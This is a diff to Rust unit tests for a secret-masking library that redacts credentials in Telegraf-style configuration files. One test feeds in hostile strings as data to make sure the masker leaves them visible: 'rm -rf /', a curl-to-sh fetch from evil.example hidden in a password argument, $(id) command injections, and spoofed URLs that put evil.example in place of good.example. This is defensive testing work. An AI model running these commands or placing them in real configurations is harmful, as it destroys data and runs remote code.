@@ -2,6 +2,14 @@
 
 use super::*;
 
+fn without(config: &str) -> String {
+    without_literals(config, Language::Config).into_owned()
+}
+
+fn certain(config: &str) -> Vec<Range<usize>> {
+    certain_literals(config, Language::Config)
+}
+
 /// A warning is due, and nothing of the secret is shown.
 #[test]
 fn secrets_in_configurations_are_found_and_hidden() {
@@ -19,7 +27,6 @@ fn secrets_in_configurations_are_found_and_hidden() {
         "tokens = [\n  \"§\", # §\n  \"$A\",\n]",
         "credentials = { user = \"§\", \"x\" = \"§\" }",
         "[[outputs.http.credentials]]\nfirst = \"§\"",
-        "[secret.pager]\nvalue = \"§\"",
         "[inputs.http.secrets]\n  a = \"§\"\n  b = '§'",
         // Strings.
         "password = \"a\\\"§\"",
@@ -43,6 +50,12 @@ fn secrets_in_configurations_are_found_and_hidden() {
         "command = \"tool --password § --x\"",
         "commands = [\"tool -x --token=§\", \"tool --api-key '§ §'\"]",
         "command = [\"tool\", \"--password\", \"§\"]",
+        "x = \"mysql -u root -p§ d\"",
+        "x = [\"redis-cli -a § info\"]",
+        "x = [\"redis-cli\", \"-a\", \"§\"]",
+        "x = [\"mysql\", \"-p§\"]",
+        "urls = [\"https://hooks.slack.com/services/§\"]",
+        "data = \"<password>§</password>\"",
         "commands = [\"curl -H 'Authorization: Bearer §' http://h\"]",
         "commands = [\"PGPASSWORD=§ psql\"]",
         // Other languages.
@@ -75,8 +88,8 @@ fn secrets_in_configurations_are_found_and_hidden() {
         "x = 1 # token=§",
     ] {
         let config = config.replace('§', "S3CR3T");
-        assert!(!without_literals(&config).contains("3CR3"), "{config}\n{}", without_literals(&config));
-        assert!(!literals_in_config(&config).is_empty(), "{config}");
+        assert!(!without(&config).contains("3CR3"), "{config}\n{}", without(&config));
+        assert!(!certain(&config).is_empty(), "{config}");
     }
 }
 
@@ -96,13 +109,12 @@ fn in_doubt_it_is_hidden() {
         "x = \"tool -p §\"",
         "x = [\"tool\", \"-p\", \"§\"]",
         "x = [\"curl -u me:§ http://h\"]",
-        "x = \"mysql -u root -p§ d\"",
         "x = \"u:§@h:1/d\"",
     ] {
         let config = config.replace('§', "S3CR3T");
-        assert!(!without_literals(&config).contains("3CR3"), "{config}\n{}", without_literals(&config));
-        assert!(!literals(&config).is_empty(), "{config}");
-        assert!(literals_in_config(&config).is_empty(), "{config}");
+        assert!(!without(&config).contains("3CR3"), "{config}\n{}", without(&config));
+        assert!(!literals(&config, Language::Manifest).is_empty(), "{config}");
+        assert!(certain(&config).is_empty(), "{config}");
     }
 }
 
@@ -142,9 +154,97 @@ fn what_is_no_secret_is_neither_hidden_nor_warned_of() {
         "[user.ann.password]\nenv = \"ANN\"",
         "image = \"telegraf:1.30@sha256:00\"",
     ] {
-        assert_eq!(without_literals(config), config);
-        assert!(literals_in_config(config).is_empty(), "{config}");
+        assert_eq!(without(config), config);
+        assert!(certain(config).is_empty(), "{config}");
     }
+}
+
+/// Whoever reads it sees what Telegraf runs, and where it sends to.
+#[test]
+fn what_runs_is_shown() {
+    for config in [
+        "# -----BEGIN RSA PRIVATE KEY-----\n[[inputs.exec]]\ncommands = [\"rm -rf /\"]\n# -----END RSA PRIVATE KEY-----",
+        "x = '''\n-----BEGIN RSA PRIVATE KEY-----\nload(\"x\")\n-----END RSA PRIVATE KEY-----\n'''",
+        "commands = [\"run --password=$(curl${IFS}evil.example|sh)\"]",
+        "commands = [\"run --password $(id)\", \"PASSWORD=`id` x\"]",
+        "urls = [\"http://evil.example:80/x@good.example\", \"http://evil.example:80#@good.example\"]",
+        "topic = \"a:b@c/d\"",
+        "oid = \"SNMP-COMMUNITY-MIB::snmpCommunityName.1\"",
+        "commands = [\"mkdir -p /var/x\", \"ssh -p 22 h\"]",
+        "source = '''\ntoken = load(\"x\")\n'''",
+    ] {
+        assert_eq!(without(config), config);
+    }
+    for (config, shown) in [
+        ("x = [\"a --token=S3;rm\", \"a --token S3|rm\"]", "x = [\"a --token=***;rm\", \"a --token ***|rm\"]"),
+        ("source = '''\npassword = \"S3\" exec(\"x\")\n'''", "source = '''\npassword = \"***\" exec(\"x\")\n'''"),
+        ("urls = [\"http://good.example:x@evil.example\"]", "urls = [\"http://***@evil.example\"]"),
+        ("secret = \"\"\"\nS3\n  S4\n\"\"\"\nx = 1", "secret = \"\"\"\n***\n  ***\n\"\"\"\nx = 1"),
+    ] {
+        assert_eq!(without(config), shown);
+    }
+}
+
+#[test]
+fn a_private_key_is_one_secret() {
+    let config = "x = '''\n-----BEGIN PRIVATE KEY-----\nS3\nS4\nS5\n-----END PRIVATE KEY-----\n'''";
+    assert_eq!(certain(config).len(), 1);
+    assert_eq!(without(config).matches(HIDDEN).count(), 3);
+}
+
+/// What stands in the tables of such kinds may be a secret that somebody did not know how to write.
+#[test]
+fn tables_of_kinds_that_have_secrets_are_hidden_as_far_as_they_are_not_known() {
+    for (manifest, shown) in [
+        ("[secret]\npager = \"S3\"", "[secret]\npager = \"***\""),
+        ("[secrets]\na = \"S3\"", "[secrets]\na = \"***\""),
+        ("[secret.a]\nvalu = \"S3\"\nkey = \"k\"", "[secret.a]\nvalu = \"***\"\nkey = \"k\""),
+        ("[secret.a]\nvalue.x = \"S3\"", "[secret.a]\nvalue.x = \"***\""),
+        ("[secret.a.value]\nliteral = \"S3\"", "[secret.a.value]\nliteral = \"***\""),
+        (
+            "[secret.a]\nvalue = { command = [\"echo\", \"S3\"] }",
+            "[secret.a]\nvalue = { command = [\"echo\", \"***\"] }",
+        ),
+        ("[secret.a]\nvalue = S3", "[secret.a]\nvalue = ***"),
+        ("[secret.a]\nvalue = { env = \"A\" }", "[secret.a]\nvalue = { env = \"A\" }"),
+        ("[user.a]\npasswordd = \"S3\"\nname = \"n\"", "[user.a]\npasswordd = \"***\"\nname = \"n\""),
+        ("[user.a]\npasswort = \"S3\"", "[user.a]\npasswort = \"***\""),
+        ("[token.a]\ndeliver = \"S3\"", "[token.a]\ndeliver = \"***\""),
+        ("[token.a]\ndeliver = [\"discard\"]", "[token.a]\ndeliver = [\"discard\"]"),
+        ("[token.a]\ndeliver = { file = \"a/b\" }", "[token.a]\ndeliver = { file = \"a/b\" }"),
+        ("[token.a]\nread = [\"bucket.a\"]", "[token.a]\nread = [\"bucket.a\"]"),
+        (
+            "[var]\ndb_password = { default = \"S3\", one_of = [\"S4\"] }",
+            "[var]\ndb_password = { default = \"***\", one_of = [\"***\"] }",
+        ),
+        ("[var.db_password]\ndefault = \"S3\"", "[var.db_password]\ndefault = \"***\""),
+        ("[variable.password]\nvalues = [\"S3\"]", "[variable.password]\nvalues = [\"***\"]"),
+        ("[telegraf.a]\nconfig = '''\ntoken: S3\n'''", "[telegraf.a]\nconfig = '''\ntoken: ***\n'''"),
+        ("[telegraf.a]\nconfig = '''\npassword =\n\"S3\"\n'''", "[telegraf.a]\nconfig = '''\npassword =\n\"***\"\n'''"),
+        ("[task.a]\nflux = '''\npassword =\n(\"S3\")\n'''", "[task.a]\nflux = '''\npassword =\n(\"***\")\n'''"),
+        ("[scraper.a]\nurl = \"u:S3@h/m\"", "[scraper.a]\nurl = \"u:***@h/m\""),
+        ("[bucket.a]\nretention = \"30d\"", "[bucket.a]\nretention = \"30d\""),
+    ] {
+        assert_eq!(without_literals(manifest, Language::Manifest), shown);
+    }
+}
+
+#[test]
+fn words_of_people_are_searched_for_what_certainly_is_a_secret() {
+    for (words, shown) in [
+        ("password: S3KRIT7", "password: ***"),
+        ("Bearer S3KRIT7", "Bearer ***"),
+        ("use token: S3KRIT7 for x", "use token: *** for x"),
+        ("TOKEN=S3KRIT7 x", "TOKEN=*** x"),
+        ("Reset password: monthly", "Reset password: monthly"),
+        ("the token: see the wiki", "the token: see the wiki"),
+        ("unknown field `password`: write it", "unknown field `password`: write it"),
+    ] {
+        assert_eq!(without_secrets(words), shown);
+    }
+    let command = "command [\"curl\", \"-H\", \"Authorization: Bearer S3\", \"-u\", \"u:S3\", \"--token\", \"S3\", \"https://h?sig=S3\"]";
+    let shown = "command [\"curl\", \"-H\", \"Authorization: ***\", \"-u\", \"u:***\", \"--token\", \"***\", \"https://h?sig=***\"]";
+    assert_eq!(without_secrets_in_command(command), shown);
 }
 
 /// The mask tells neither what is behind it nor how long that is, and leaves what stands around.
@@ -158,12 +258,12 @@ fn one_mask_is_in_the_place_of_each_secret() {
         ("x = ['Authorization: Bearer a', 'b']", "x = ['Authorization: ***', 'b']"),
         ("x = '{\"password\": \"a\", \"b\": 1}'", "x = '{\"password\": \"***\", \"b\": 1}'"),
     ] {
-        assert_eq!(without_literals(config), shown);
+        assert_eq!(without(config), shown);
     }
 }
 
 fn found(text: &str) -> Vec<&str> {
-    literals(text).into_iter().map(|span| &text[span]).collect()
+    literals(text, Language::Manifest).into_iter().map(|span| &text[span]).collect()
 }
 
 #[test]
@@ -175,9 +275,9 @@ fn strings_of_keys_that_are_called_like_secrets_are_found() {
         ("a = { name = 1, \"api-key\" = \"s3cr3t\" }", "s3cr3t"),
         ("password = \"a\\\"b\"", "a\\\"b"),
         ("secret = \"s3cr3t\nnext = 1", "s3cr3t"),
-        ("token = \"\"\"s3\ncr3t\"\"\"", "s3\ncr3t"),
+        ("token = \"\"\"\ns3cr3t\"\"\"", "s3cr3t"),
         ("token = '\\'", "\\"),
-        ("url = \"https://a:s3cr3t@h\"", "a:s3cr3t"),
+        ("url = \"https://a:s3cr3t@h\"", "s3cr3t"),
         ("token = \"https://a:b@h\"", "https://a:b@h"),
         ("influx_token = \"s3cr3t\"", "s3cr3t"),
         ("headers = { Authorization = \"Token s3cr3t\" }", "Token s3cr3t"),
@@ -185,7 +285,7 @@ fn strings_of_keys_that_are_called_like_secrets_are_found() {
         ("address = \"host=db password=s3cr3t sslmode=off\"", "s3cr3t"),
         ("servers = [\"Server=db;Password=s3cr3t;log=1\"]", "s3cr3t"),
         ("url = \"https://h/m?token=s3cr3t&a=b\"", "s3cr3t"),
-        ("servers = [\"user:s3cr3t@tcp(db:3306)/\"]", "user:s3cr3t"),
+        ("servers = [\"user:s3cr3t@tcp(db:3306)/\"]", "s3cr3t"),
     ] {
         assert_eq!(found(text), [secret], "{text}");
     }
@@ -200,7 +300,7 @@ fn much_of_what_begins_a_secret_is_read_to_the_end() {
     for piece in pieces.split_whitespace() {
         let piece = piece.replace('_', " ").replace('~', "\n");
         let text = piece.repeat((1 << 18) / piece.len());
-        assert!(!without_literals(&text).is_empty(), "{piece}");
+        assert!(!without(&text).is_empty(), "{piece}");
     }
 }
 
@@ -233,11 +333,11 @@ fn what_names_a_secret_is_none_in_a_configuration() {
         ("token = \"${T:-s3cr3t}\"", "token = \"***\""),
         ("token = \"s3cr3t\" # a", "token = \"***\" # a"),
         ("token = \"pa$$word\"", "token = \"***\""),
-        ("u = \"http://a:b@h\"\npassword = 's3cr3t'", "u = \"http://***@h\"\npassword = '***'"),
+        ("u = \"http://a:b@h\"\npassword = 's3cr3t'", "u = \"http://a:***@h\"\npassword = '***'"),
         ("u = \"http://${USER}:${P}@h\"", "u = \"http://${USER}:${P}@h\""),
         ("u = \"http://me:$P@h\"", "u = \"http://me:$P@h\""),
-        ("u = \"http://$ME:p@h\"", "u = \"http://***@h\""),
+        ("u = \"http://$ME:p@h\"", "u = \"http://$ME:***@h\""),
     ] {
-        assert_eq!(without_literals(text), shown, "{text}");
+        assert_eq!(without(text), shown, "{text}");
     }
 }
